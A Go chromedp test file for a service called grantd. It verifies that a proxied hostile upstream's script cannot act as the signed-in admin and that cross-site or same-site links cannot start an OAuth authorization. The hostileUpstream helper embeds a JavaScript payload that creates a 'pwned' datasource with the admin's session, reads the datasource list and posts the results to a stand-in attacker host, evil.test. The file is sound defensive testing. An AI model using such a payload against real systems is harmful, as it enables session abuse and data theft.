package ui_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
)

// Where the attacks come from. Chromium is told to resolve the .test
// names to 127.0.0.1; a site ignores the port, so two loopback ports
// would be one site, and the tests use host names instead.
//
//   - cross-site: grantd is reached as localhost, which chromium counts as a
//     secure context, so it sends Fetch Metadata (Sec-Fetch-*) as it would
//     to an https grantd; the attacker is evil.test, another site.
//   - same-site: grantd is grantd.corp.test and the attacker
//     evil.corp.test, a sibling subdomain — the same site (corp.test), so
//     even a SameSite=Strict cookie goes along. Plain http to a name that
//     is not localhost gets no Fetch Metadata, like an http deployment.
//
// Each test checks chromium agrees on which is which before it counts
// anything: from the session cookie it sends or holds back on the
// attacker's image request to grantd.
type siteCase struct {
	name       string
	grantdHost string
	evilHost   string
	sameSite   bool
}

var siteCases = []siteCase{
	{name: "cross-site", grantdHost: "localhost", evilHost: "evil.test"},
	{name: "same-site", grantdHost: "grantd.corp.test", evilHost: "evil.corp.test", sameSite: true},
}

func attackBrowser(t *testing.T) (context.Context, string) {
	return browser(t, chromedp.Flag("host-resolver-rules", "MAP evil.test 127.0.0.1, MAP *.corp.test 127.0.0.1"))
}

// hostURL is u with its host name replaced by host, port kept.
func hostURL(t *testing.T, u, host string) string {
	t.Helper()
	rest, ok := strings.CutPrefix(u, "http://")
	if !ok {
		t.Fatalf("not an http URL: %s", u)
	}
	_, port, err := net.SplitHostPort(strings.SplitN(rest, "/", 2)[0])
	if err != nil {
		t.Fatal(err)
	}
	return "http://" + host + ":" + port
}

// attacker is a site of the attacker's: its page /?to=<URL>&probe=<URL>
// links to one grantd URL and loads another as an image, and it collects
// what scripts report to /report.
type attacker struct {
	*httptest.Server
	reports chan string
}

func newAttacker(t *testing.T) *attacker {
	a := &attacker{reports: make(chan string, 16)}
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, `<!doctype html><title>Totally harmless</title><a id="go" href="%s">Click me</a><img id="probe" src="%s" alt="">`,
				r.URL.Query().Get("to"), r.URL.Query().Get("probe"))
		case "/report":
			b, _ := io.ReadAll(r.Body)
			a.reports <- string(b)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(a.Close)
	return a
}

// page is the attacker's page, served as host, linking to target.
func (a *attacker) page(t *testing.T, host, grantd, target string) (pageURL, probe string) {
	probe = grantd + "/api/v1/session?probe=" + host
	return hostURL(t, a.URL, host) + "/?" + url.Values{"to": {target}, "probe": {probe}}.Encode(), probe
}

// hostileUpstream answers every request with HTML whose script, should it
// run on grantd's origin, uses the admin's session to create a datasource
// and read the list, and reports both to the attacker. It sets the title
// first, synchronously, so the test knows whether it ran at all.
func hostileUpstream(t *testing.T, tokenURL, report string) (*httptest.Server, *atomic.Int64) {
	var calls atomic.Int64
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><title>upstream</title><script>
document.title = 'ran';
(async () => {
  const out = {origin: location.origin};
  try {
    const r = await fetch('/api/v1/datasources', {method: 'POST', headers: {'X-Grantd-CSRF': '1', 'Content-Type': 'application/json'},
      body: JSON.stringify({name: 'pwned ' + location.host, url: 'https://api.example.com', auth: {grantType: 'client_credentials', accessTokenUrl: %q, clientId: 'svc', clientSecret: 'svc-secret'}})});
    out.create = r.status;
  } catch (e) { out.create = String(e); }
  try {
    const r = await fetch('/api/v1/datasources');
    out.list = r.status + ' ' + (await r.text()).slice(0, 300);
  } catch (e) { out.list = String(e); }
  await fetch(%q, {method: 'POST', mode: 'no-cors', body: JSON.stringify(out)});
})();
</script>`, tokenURL, report)
	}))
	t.Cleanup(up.Close)
	return up, &calls
}

// requestLog records, from the DevTools protocol, what chromium really
// sent with each request — headers, and which cookies it held back and
// why — by URL. A redirect keeps its request id and adds a URL; the
// extra-info events of one id come in the order of its hops.
type requestLog struct {
	mu    sync.Mutex
	urls  map[network.RequestID][]string                                   // each hop's URL
	early map[network.RequestID][]*network.EventRequestWillBeSentExtraInfo // extra info before its URL
	seen  map[network.RequestID]int                                        // extra infos placed
	extra map[string][]*network.EventRequestWillBeSentExtraInfo
}

func logRequests(t *testing.T, ctx context.Context) *requestLog {
	l := &requestLog{urls: map[network.RequestID][]string{}, early: map[network.RequestID][]*network.EventRequestWillBeSentExtraInfo{},
		seen: map[network.RequestID]int{}, extra: map[string][]*network.EventRequestWillBeSentExtraInfo{}}
	place := func(id network.RequestID) {
		for len(l.early[id]) > 0 && l.seen[id] < len(l.urls[id]) {
			u := l.urls[id][l.seen[id]]
			l.extra[u] = append(l.extra[u], l.early[id][0])
			l.early[id] = l.early[id][1:]
			l.seen[id]++
		}
	}
	err := chromedp.Listen(ctx, func(ev any) {
		l.mu.Lock()
		defer l.mu.Unlock()
		switch ev := ev.(type) {
		case *network.EventRequestWillBeSent:
			l.urls[ev.RequestID] = append(l.urls[ev.RequestID], ev.Request.URL)
			place(ev.RequestID)
		case *network.EventRequestWillBeSentExtraInfo:
			l.early[ev.RequestID] = append(l.early[ev.RequestID], ev)
			place(ev.RequestID)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	return l
}

// header returns the values of header name sent to u, one per request.
func (l *requestLog) header(u, name string) []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out []string
	for _, x := range l.extra[u] {
		for k, v := range x.Headers {
			if strings.EqualFold(k, name) {
				out = append(out, fmt.Sprint(v))
			}
		}
	}
	return out
}

// cookie says, for each request to u, whether the cookie name went along
// ("sent") or why it was held back.
func (l *requestLog) cookie(u, name string) []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out []string
	for _, x := range l.extra[u] {
		for _, c := range x.AssociatedCookies {
			if c.Cookie == nil || c.Cookie.Name != name {
				continue
			}
			if len(c.BlockedReasons) == 0 {
				out = append(out, "sent")
			} else {
				out = append(out, fmt.Sprint(c.BlockedReasons))
			}
		}
	}
	return out
}

// checkSites fails the test unless chromium treated the attacker's page
// and grantd as the case says: on the attacker's image request to grantd
// (a subresource), a SameSite=Strict session cookie goes along only
// same-site; and cross-site, the navigation to target is marked so.
func checkSites(t *testing.T, l *requestLog, c siteCase, probe, target string) {
	t.Helper()
	got := l.cookie(probe, "grantd_session")
	switch {
	case len(got) == 0:
		t.Fatalf("%s: the session cookie is not even associated with the attacker's image request", c.name)
	case c.sameSite && got[0] != "sent":
		t.Fatalf("%s: not same-site after all: the attacker's image request had the session cookie %q", c.name, got)
	case !c.sameSite && !strings.Contains(got[0], "SameSite"):
		t.Fatalf("%s: not cross-site after all: the attacker's image request had the session cookie %q", c.name, got)
	}
	if !c.sameSite {
		if site := l.header(target, "Sec-Fetch-Site"); len(site) == 0 || site[0] != "cross-site" {
			t.Fatalf("%s: chromium sent Sec-Fetch-Site %q to %s", c.name, site, target)
		}
	}
}

// get reads path with the admin token.
func (s *server) get(t *testing.T, path string) string {
	t.Helper()
	req, _ := http.NewRequest("GET", s.URL+path, nil)
	req.Header.Set("Authorization", "Bearer "+adminToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 {
		t.Fatalf("GET %s: %d %s", path, resp.StatusCode, b)
	}
	return string(b)
}

// TestUIHostileUpstreamCannotActAsTheAdmin: a datasource's upstream
// answers HTML with a script. The admin is signed in; a page on another
// site, then one on a sibling subdomain, links to that datasource's proxy
// URL, and the admin follows the link; then the admin opens the URL
// directly. Never may the script run on grantd's origin: it creates
// nothing and reads nothing, and the proxy does not even call the upstream
// on the browser's behalf.
func TestUIHostileUpstreamCannotActAsTheAdmin(t *testing.T) {
	s := startServer(t)
	ctx, shots := attackBrowser(t)
	evil := newAttacker(t)
	up, calls := hostileUpstream(t, s.provider.TokenURL(), hostURL(t, evil.URL, "evil.test")+"/report")
	id := s.create(t, map[string]any{"name": "Hostile upstream", "url": up.URL,
		"auth": map[string]any{"grantType": "client_credentials", "accessTokenUrl": s.provider.TokenURL(), "clientId": "svc", "clientSecret": "svc-secret"}})
	requests := logRequests(t, ctx)

	attempt := func(name string, resp *network.Response, want ...int64) {
		t.Helper()
		shot(t, ctx, shots, "20-"+name)
		title, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.title`))
		if err != nil {
			t.Fatal(err)
		}
		if title == "ran" {
			// The script runs asynchronously; wait for what it reports.
			select {
			case r := <-evil.reports:
				t.Errorf("%s: the upstream's script ran on grantd's origin and reported %s", name, r)
			case <-ctx.Done():
				t.Errorf("%s: the upstream's script ran on grantd's origin", name)
			}
		}
		if n := calls.Load(); n != 0 {
			t.Errorf("%s: the proxy called the upstream %d times for the browser (answered %d)", name, n, resp.Status)
		}
		ok := false
		for _, w := range want {
			ok = ok || resp.Status == w
		}
		if !ok {
			t.Errorf("%s: grantd answered %d, want one of %v", name, resp.Status, want)
		}
		if list := s.get(t, "/api/v1/datasources"); strings.Contains(list, "pwned") {
			t.Errorf("%s: a datasource was created: %s", name, list)
		}
		select {
		case r := <-evil.reports:
			t.Errorf("%s: the attacker got a report: %s", name, r)
		default:
		}
	}

	for _, c := range siteCases {
		grantd := hostURL(t, s.URL, c.grantdHost)
		target := grantd + "/api/v1/datasources/" + id + "/proxy/page"
		signInAt(t, ctx, grantd)
		page, probe := evil.page(t, c.evilHost, grantd, target)
		run(t, ctx, "open the hostile page", chromedp.Navigate(page), visible("#go"),
			waitJS(`document.querySelector('#probe').complete`))
		resp, err := chromedp.RunResponse(ctx, click("#go"))
		if err != nil {
			t.Fatal(err)
		}
		checkSites(t, requests, c, probe, target)
		t.Logf("%s link: session cookie %q, answer %d", c.name, requests.cookie(target, "grantd_session"), resp.Status)
		if c.sameSite {
			// The Strict cookie goes along; the proxy wants the CSRF header.
			attempt(c.name+"-link", resp, 403)
		} else {
			// The Strict cookie stays home.
			attempt(c.name+"-link", resp, 401)
		}
	}

	// The admin pastes the URL into the address bar: no site at all
	// (Sec-Fetch-Site: none), so the SameSite=Strict cookie goes along,
	// and chromium says it is a navigation.
	target := hostURL(t, s.URL, "localhost") + "/api/v1/datasources/" + id + "/proxy/page"
	resp, err := chromedp.Run(ctx, chromedp.NavigateResponse(target))
	if err != nil {
		t.Fatal(err)
	}
	if got := requests.cookie(target, "grantd_session"); len(got) == 0 || got[len(got)-1] != "sent" {
		t.Fatalf("typed URL: the session cookie %q", got)
	}
	attempt("typed-url", resp, 403)
	if page := content(t, ctx, "body"); !strings.Contains(page, "Navigation refused") {
		t.Errorf("typed URL: the page does not say the navigation was refused: %q", page)
	}
}

// TestUICrossSiteAuthorizeStart: a page on another site, then one on a
// sibling subdomain (which gets even a SameSite=Strict cookie), sends the
// signed-in admin to a datasource's authorize/start. Nothing starts: no
// trip to the provider, no binding cookie, no event.
func TestUICrossSiteAuthorizeStart(t *testing.T) {
	s := startServer(t)
	ctx, shots := attackBrowser(t)
	p := s.provider
	id := s.create(t, map[string]any{"name": "GitHub-ish", "url": p.URL + "/api", "auth": map[string]any{
		"grantType": "authorization_code", "accessTokenUrl": p.TokenURL(), "authorizationUrl": p.AuthURL(),
		"clientId": "web", "clientSecret": "web-secret", "scope": "openid profile"}})
	evil := newAttacker(t)
	requests := logRequests(t, ctx)

	for _, c := range siteCases {
		grantd := hostURL(t, s.URL, c.grantdHost)
		target := grantd + "/api/v1/datasources/" + id + "/authorize/start?returnTo=%2F"
		signInAt(t, ctx, grantd)
		page, probe := evil.page(t, c.evilHost, grantd, target)
		run(t, ctx, "open the hostile page", chromedp.Navigate(page), visible("#go"),
			waitJS(`document.querySelector('#probe').complete`))
		resp, err := chromedp.RunResponse(ctx, click("#go"))
		if err != nil {
			t.Fatal(err)
		}
		shot(t, ctx, shots, "21-authorize-start-"+c.name)
		checkSites(t, requests, c, probe, target)
		t.Logf("%s link: session cookie %q, answer %d at %s", c.name, requests.cookie(target, "grantd_session"), resp.Status, resp.URL)
		if strings.HasPrefix(resp.URL, p.AuthURL()) || resp.Status < 400 {
			t.Errorf("%s: a link started an authorization: %d at %s", c.name, resp.Status, resp.URL)
		}
		cookies, err := chromedp.Call(ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{grantd + "/api/v1/datasources/authorize"}})
		if err != nil {
			t.Fatal(err)
		}
		for _, ck := range cookies.Cookies {
			if ck.Name == "grantd_flow" {
				t.Errorf("%s: a binding cookie was set", c.name)
			}
		}
	}
	// Audit events are written after the answer: stop the writer, which
	// writes what was published first, then read them.
	s.hub.Close()
	if events := s.get(t, "/api/v1/events?datasource="+id); strings.Contains(events, "authorization.started") {
		t.Errorf("an authorization was started: %s", events)
	}
}
